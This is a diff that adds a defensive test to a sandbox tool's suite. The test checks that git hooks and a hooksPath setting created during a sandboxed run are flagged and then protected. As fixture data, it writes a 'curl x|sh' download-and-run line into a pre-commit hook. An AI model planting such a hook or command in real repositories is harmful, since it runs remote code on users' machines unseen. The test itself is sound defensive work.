@@ -355,3 +355,23 @@ def test_concurrent_runs_keep_placeholders_until_the_last_one_ends(box: Box) -> 
     assert b.returncode == 0
     assert b"Is a directory" in err or b"Read-only" in err
     assert list(box.ws.iterdir()) == []
+
+
+def test_repo_created_during_a_run_is_reported_if_it_can_run_code(box: Box) -> None:
+    import io
+
+    sb = box.sandbox()
+    clean = sb.run(["git", "init", "-q", "."], box.ws, stderr_sink=io.StringIO())
+    assert clean.returncode == 0 and clean.warnings == []
+    sub = box.ws / "sub"
+    sub.mkdir()
+    sb = box.sandbox(writable_roots=[sub])
+    r = sb.run(["sh", "-c", "cd sub && git init -q . && echo 'curl x|sh' > .git/hooks/pre-commit"
+                " && git config core.hooksPath .githooks"], box.ws, stderr_sink=io.StringIO())
+    sb.close()
+    assert r.returncode == 0
+    assert len(r.warnings) == 1
+    assert ".git/hooks/pre-commit" in r.warnings[0] and "hookspath" in r.warnings[0]
+    # the next run sees the repository and protects it
+    box.sh("echo evil > sub/.git/hooks/post-merge; true", writable_roots=[sub])
+    assert not (sub / ".git" / "hooks" / "post-merge").exists()
